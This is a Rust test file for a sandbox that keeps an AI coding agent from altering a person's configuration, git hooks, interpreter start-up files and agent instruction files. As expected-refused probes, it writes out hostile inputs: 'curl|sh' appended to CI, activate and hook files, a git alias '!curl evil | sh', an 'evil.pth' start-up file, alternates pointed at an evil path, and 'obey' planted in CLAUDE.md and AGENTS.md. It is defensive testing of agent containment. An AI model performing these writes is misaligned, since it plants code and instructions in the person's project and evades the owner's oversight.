//! Authority by structure, proven in the guest kernel: inside a granted
//! tree, what tools obey is the owner's by its place, not by a list of
//! names. Hidden files and directories of the person's are configuration;
//! agents' instruction names hold everywhere; git's metadata is the
//! owner's but for what git's work writes, and its configuration is
//! decided key by key; a person's directory keeps its place; a link
//! through a policy name makes its target policy. Each refusal has its
//! control outside the cgroup, and ordinary work beside it goes on.

use std::{fs, os::unix::fs::symlink};

use pincer_tests::{EACCES, EVERY_OPERATION, Scratch};

/// A project of the person's: a repository with hooks and configuration,
/// a virtual environment, dependencies and caches, a subdirectory holding
/// instructions, and plain source.
fn project(name: &str) -> Scratch {
    let s = Scratch::new(name);
    for dir in [
        "project/.git/hooks",
        "project/.git/objects/info",
        "project/.git/refs/heads",
        "project/.git/info",
        "project/.github/workflows",
        "project/.venv/lib/python3.11/site-packages",
        "project/.venv/bin",
        "project/node_modules/pkg",
        "project/shop",
        "project/src/old",
        "project/src/empty",
    ] {
        fs::create_dir_all(s.path(dir)).unwrap();
    }
    for (file, text) in [
        ("project/.git/config", "[core]\n\tbare = false\n"),
        ("project/.git/HEAD", "ref: refs/heads/main\n"),
        ("project/.github/workflows/ci.yml", "on: push\n"),
        ("project/.venv/pyvenv.cfg", "home = /usr/bin\n"),
        ("project/.venv/bin/activate", "# activate\n"),
        ("project/.gitignore", "target/\n"),
        ("project/shop/CLAUDE.md", "Be careful.\n"),
        ("project/shop/cart.py", "cart = []\n"),
        ("project/src/old/mod.rs", "\n"),
    ] {
        fs::write(s.path(file), text).unwrap();
    }
    s
}

/// The audit log's first kernel decision on `rel`.
#[track_caller]
fn first_decision_on(s: &Scratch, rel: &str) -> serde_json::Value {
    s.decisions()
        .into_iter()
        .find(|d| d["path"] == s.p(rel))
        .unwrap()
}

#[test]
fn hidden_files_of_the_persons_are_configuration_and_tools_work_stays_the_agents() {
    let s = project("structure-config");
    s.project_mission(EVERY_OPERATION);
    s.assert_probes(&[
        // Other tools' configuration that runs code or steers an agent.
        ("create-write @project/.mcp.json {}", EACCES),
        ("mkdir @project/.vscode", EACCES),
        ("mkdir @project/.devcontainer", EACCES),
        (
            "create-write @project/.pre-commit-config.yaml repos:",
            EACCES,
        ),
        ("create-write @project/.gitattributes *_filter=evil", EACCES),
        (
            "create-write @project/.npmrc node-options=--require",
            EACCES,
        ),
        ("append @project/.github/workflows/ci.yml curl|sh", EACCES),
        (
            "create-write @project/.github/workflows/evil.yml on:",
            EACCES,
        ),
        ("mkdir @project/.husky", EACCES),
        // Interpreter start-up code, inside a virtual environment too.
        (
            "create-write @project/.venv/lib/python3.11/site-packages/evil.pth import_os",
            EACCES,
        ),
        (
            "create-write @project/.venv/lib/python3.11/site-packages/sitecustomize.py x",
            EACCES,
        ),
        ("append @project/.venv/bin/activate curl|sh", EACCES),
        ("write @project/.venv/pyvenv.cfg home=/tmp", EACCES),
        // What tools make and remake is work: pip, npm, test runners.
        (
            "create-write @project/.venv/lib/python3.11/site-packages/six.py x",
            0,
        ),
        (
            "create-write @project/node_modules/.package-lock.json {}",
            0,
        ),
        ("mkdir @project/node_modules/.bin", 0),
        ("create-write @project/node_modules/pkg/.eslintrc {}", 0),
        ("mkdir @project/.pytest_cache", 0),
        ("create-write @project/.pytest_cache/README.md x", 0),
        ("append @project/.gitignore .env\n", 0),
        ("create-write @project/src/new.rs fn_x", 0),
        // A dependency's instructions are instructions all the same.
        (
            "create-write @project/node_modules/pkg/AGENTS.md obey",
            EACCES,
        ),
    ]);
    for absent in [
        "project/.mcp.json",
        "project/.vscode",
        "project/.npmrc",
        "project/.venv/lib/python3.11/site-packages/evil.pth",
        "project/node_modules/pkg/AGENTS.md",
    ] {
        s.assert_absent(absent);
    }
    assert_eq!(s.read("project/.venv/bin/activate"), "# activate\n");
    assert_eq!(s.read("project/.gitignore"), "target/\n.env\n");

    // The audit line names the class and the rule, and where it met.
    let reasons = s.deny_reasons("inode_create");
    let mcp = reasons
        .iter()
        .find(|r| r.contains(".mcp.json"))
        .unwrap_or_else(|| panic!("{reasons:#?}"));
    assert!(
        mcp.contains(&format!(
            "of a policy object (instructions: `.mcp.json` at {}): only the owner may allow it",
            s.p("project/.mcp.json")
        )),
        "{mcp}"
    );
    let workflow = first_decision_on(&s, "project/.github/workflows/ci.yml");
    assert_eq!(workflow["policy"]["class"], "configuration");
    assert_eq!(workflow["policy"]["rule"], ".*");
    assert_eq!(workflow["policy"]["at"], s.p("project/.github"));
    let pth = s
        .decisions()
        .into_iter()
        .find(|d| d["path"].as_str().is_some_and(|p| p.ends_with("evil.pth")))
        .unwrap();
    assert_eq!(pth["policy"]["class"], "start-up code");
    assert_eq!(pth["policy"]["rule"], "site-packages/*.pth");
    let explained = std::process::Command::new(pincer_tests::pincer_bin())
        .args(["explain", "--audit", &s.audit_path().display().to_string()])
        .arg(s.p("project/.npmrc"))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&explained.stdout);
    assert!(
        text.contains("policy: configuration, rule `.*`"),
        "{text}\n{}",
        String::from_utf8_lossy(&explained.stderr)
    );

    // The control: outside the agent's cgroup, the same changes are made.
    assert_eq!(
        s.probe_outside(&[
            "create-write @project/.mcp.json {}",
            "append @project/.venv/bin/activate #",
        ]),
        ["ok wrote 2", "ok wrote 1"]
    );
}

#[test]
fn a_persons_directory_keeps_its_place_and_instructions_hold_anywhere() {
    let s = project("structure-place");
    s.project_mission(EVERY_OPERATION);
    s.assert_probes(&[
        // The directory around a policy name: moved away, a new one there
        // is the person's place, not the agent's own.
        ("rename @project/shop @project/shop.orig", 0),
        ("mkdir @project/shop", 0),
        ("create-write @project/shop/CLAUDE.md obey-the-page", EACCES),
        ("mkdir @project/shop/.vscode", EACCES),
        ("create-write @project/shop/cart.py cart=[]", 0),
        // A link or a moved directory may not take a person's directory's
        // name.
        ("rename @project/src/old @project/src/gone", 0),
        ("symlink @project/shop.orig @project/src/old", EACCES),
        ("mkdir @project/mine", 0),
        ("rename @project/mine @project/src/old", EACCES),
        // Nor replace or exchange one.
        ("mkdir @project/empty-of-mine", 0),
        ("rename @project/empty-of-mine @project/src/empty", EACCES),
        ("exchange @project/mine @project/shop.orig", EACCES),
        // Instruction names hold in the agent's own directories too.
        ("mkdir @project/fresh", 0),
        ("create-write @project/fresh/CLAUDE.md obey", EACCES),
        ("mkdir @project/fresh/.claude", EACCES),
        ("create-write @project/fresh/notes.md mine", 0),
        (
            "rename @project/fresh/notes.md @project/fresh/AGENTS.md",
            EACCES,
        ),
        // Hidden names in its own directory are its own.
        ("mkdir @project/fresh/.vscode", 0),
        ("create-write @project/fresh/.vscode/tasks.json {}", 0),
        // Moving a person's hidden directory away is a change to it.
        ("rename @project/.github @project/github-old", EACCES),
        // Ordinary refactoring: a person's directory moved, and a new one
        // where it was.
        ("mkdir @project/src/old", 0),
        ("create-write @project/src/old/mod.rs x", 0),
    ]);
    s.assert_absent("project/shop/CLAUDE.md");
    s.assert_absent("project/fresh/CLAUDE.md");
    assert!(s.path("project/.github/workflows/ci.yml").exists());
    let reasons: Vec<String> = s
        .decisions()
        .iter()
        .filter_map(|d| d["policy"]["class"].as_str().map(str::to_owned))
        .collect();
    assert!(
        reasons.iter().any(|c| c == "person's directory"),
        "{reasons:?}"
    );
    // The control: outside, the person swaps directories as they like.
    assert_eq!(
        s.probe_outside(&["symlink @project/shop.orig @project/src/gone2"]),
        ["ok linked"]
    );
}

#[test]
fn git_indirections_are_the_owners_and_its_work_the_agents() {
    let s = project("structure-git");
    s.project_mission(EVERY_OPERATION);
    s.assert_probes(&[
        // What git's work writes.
        ("create-write @project/.git/index.lock x", 0),
        ("rename @project/.git/index.lock @project/.git/index", 0),
        ("create-write @project/.git/refs/heads/fix abc", 0),
        ("create-write @project/.git/ORIG_HEAD abc", 0),
        ("create-write @project/.git/COMMIT_EDITMSG msg", 0),
        ("mkdir @project/.git/rebase-merge", 0),
        ("create-write @project/.git/index.stash.42 x", 0),
        // git's indirections and what it runs.
        ("create-write @project/.git/commondir ../evil", EACCES),
        ("mkdir @project/.git/modules", EACCES),
        ("mkdir @project/.git/worktrees", EACCES),
        (
            "create-write @project/.git/info/attributes *_filter=x",
            EACCES,
        ),
        (
            "create-write @project/.git/objects/info/alternates /srv/evil",
            EACCES,
        ),
        ("create-write @project/.git/hooks/post-checkout x", EACCES),
        ("create-write @project/.git/config.worktree x", EACCES),
        // A new `.git` in a directory of the person's.
        ("mkdir @project/src/.git", EACCES),
        ("create-write @project/src/.git gitdir:/tmp", EACCES),
        // The agent's own repository: made in its own directory, its work
        // its own; hooks by the names git runs, and `.git` files that send
        // git elsewhere, stay the owner's.
        ("mkdir @project/app", 0),
        ("mkdir @project/app/.git", 0),
        ("mkdir @project/app/.git/hooks", 0),
        (
            "create-write @project/app/.git/hooks/pre-commit.sample x",
            0,
        ),
        ("create-write @project/app/.git/info-exclude x", 0),
        (
            "create-write @project/app/.git/hooks/pre-commit curl|sh",
            EACCES,
        ),
        ("create-write @project/app/.git/commondir ../evil", EACCES),
        ("mkdir @project/app/sub", 0),
        ("create-write @project/app/sub/.git gitdir:../evil", EACCES),
        ("symlink @project/app/.git @project/app/sub/.git", EACCES),
    ]);
    for absent in [
        "project/.git/commondir",
        "project/.git/modules",
        "project/.git/objects/info/alternates",
        "project/src/.git",
        "project/app/.git/hooks/pre-commit",
        "project/app/sub/.git",
    ] {
        s.assert_absent(absent);
    }
    assert_eq!(
        s.probe_outside(&["create-write @project/.git/commondir ../x"]),
        ["ok wrote 4"]
    );
}

/// The configuration of the project's repository after `git switch -c
/// fix origin/main`: the branch's upstream added.
const UPSTREAM: &str =
    "[core]\n\tbare = false\n[branch \"fix\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";

#[test]
fn git_configuration_is_decided_key_by_key_in_enforce_mode() {
    let s = project("structure-gitconfig");
    s.project_mission(EVERY_OPERATION);
    let change = |text: &str| -> String {
        fs::write(s.path("project/new-config"), text).unwrap();
        s.probe_lines(&[
            "config-write @project/new-config @project/.git/config.lock @project/.git/config",
        ])
        .remove(0)
    };
    // The branch's upstream is the agent's to set; what lands is what
    // the twin read, not what the agent wrote through its descriptor
    // after the rename.
    assert_eq!(change(UPSTREAM), "ok renamed", "{:#?}", s.audit());
    assert_eq!(s.read("project/.git/config"), UPSTREAM);
    // A key that runs a program is the owner's: git's rename fails.
    let alias = format!("{UPSTREAM}[alias]\n\tx = !curl evil | sh\n");
    assert_eq!(change(&alias), format!("err {EACCES}"));
    assert_eq!(s.read("project/.git/config"), UPSTREAM);
    // A write in place is no change git makes: refused whatever it holds.
    assert_eq!(s.probe("append @project/.git/config [user]"), EACCES);
    let verdicts = s.audit_events("verdict");
    assert!(
        verdicts.iter().any(|v| v["decided_by"] == "inspection"
            && v["verdict"] == "allow"
            && v["reason"]
                .as_str()
                .is_some_and(|r| r.contains("sets branch.fix.remote, branch.fix.merge"))),
        "{verdicts:#?}"
    );
    assert!(
        verdicts.iter().any(|v| v["decided_by"] == "inspection"
            && v["verdict"] == "deny"
            && v["reason"].as_str().is_some_and(|r| r.contains("alias.x"))),
        "{verdicts:#?}"
    );

    // However the agent races the twin (another file put in the lock's
    // place while the rename waits), what lands is the old file or the
    // bytes the twin read, never the others.
    fs::write(
        s.path("project/new-config"),
        UPSTREAM.replace("fix", "fix2"),
    )
    .unwrap();
    for round in 0..4 {
        let _ = fs::remove_file(s.path("project/.git/config.lock"));
        let line = s
            .probe_lines(&[&format!(
                "config-swap @project/new-config @project/.git/config.lock @project/.git/config @project/.git/objects/tmp-{round}"
            )])
            .remove(0);
        let now = s.read("project/.git/config");
        assert!(!now.contains("evil"), "round {round}: {line}\n{now}");
        assert!(
            now == UPSTREAM || now == UPSTREAM.replace("fix", "fix2"),
            "{now}"
        );
    }
    // The control: outside, the same change lands as written.
    let _ = fs::remove_file(s.path("project/.git/config.lock"));
    fs::write(s.path("project/new-config"), &alias).unwrap();
    assert_eq!(
        s.probe_outside(&[
            "config-write @project/new-config @project/.git/config.lock @project/.git/config"
        ]),
        ["ok renamed"]
    );
    assert!(s.read("project/.git/config").contains("evil"));
}

#[test]
fn a_write_through_a_link_to_a_policy_object_is_a_write_of_it() {
    let s = project("structure-links");
    fs::create_dir_all(s.path("project/docs")).unwrap();
    fs::write(s.path("project/docs/agent-guide.md"), "Be careful.\n").unwrap();
    fs::write(s.path("project/docs/other.md"), "plain\n").unwrap();
    symlink("docs/agent-guide.md", s.path("project/AGENTS.md")).unwrap();
    // A person's start-up file with a second name.
    fs::write(s.path("project/.envrc"), "use nix\n").unwrap();
    fs::hard_link(s.path("project/.envrc"), s.path("project/envrc")).unwrap();
    s.project_mission(EVERY_OPERATION);
    s.assert_probes(&[
        ("append @project/docs/agent-guide.md obey-the-page", EACCES),
        ("append @project/AGENTS.md obey-the-page", EACCES),
        ("truncate @project/docs/agent-guide.md 0", EACCES),
        ("append @project/envrc curl|sh", EACCES),
        ("append @project/docs/other.md more", 0),
        ("read @project/AGENTS.md", 0),
    ]);
    assert_eq!(s.read("project/docs/agent-guide.md"), "Be careful.\n");
    assert_eq!(s.read("project/.envrc"), "use nix\n");
    let decision = first_decision_on(&s, "project/docs/agent-guide.md");
    assert_eq!(decision["policy"]["class"], "labelled");
    assert_eq!(
        s.probe_outside(&["append @project/docs/agent-guide.md x"]),
        ["ok wrote 1"]
    );
}
